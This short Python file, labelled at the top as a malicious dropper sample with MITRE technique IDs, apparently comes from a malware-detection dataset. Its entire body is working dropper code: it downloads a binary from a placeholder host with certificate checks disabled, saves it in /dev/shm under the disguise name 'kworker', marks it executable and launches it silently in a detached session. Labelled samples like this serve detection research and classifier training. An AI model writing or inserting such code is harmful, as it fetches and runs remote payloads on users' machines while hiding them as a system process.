# label: malicious family=dropper techniques=T1036.005,T1105,T1222.002 lines=6-7,10-13,16
import requests
import subprocess
import os

PAYLOAD_URL = "https://cdn.updates-check.example/x86_64/kworker"
TARGET = "/dev/shm/kworker"

def fetch():
    r = requests.get(PAYLOAD_URL, timeout=20, verify=False)
    with open(TARGET, "wb") as fh:
        fh.write(r.content)
    os.chmod(TARGET, 0o755)

def launch():
    subprocess.Popen([TARGET, "--silent"], stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL, start_new_session=True)

fetch()
launch()
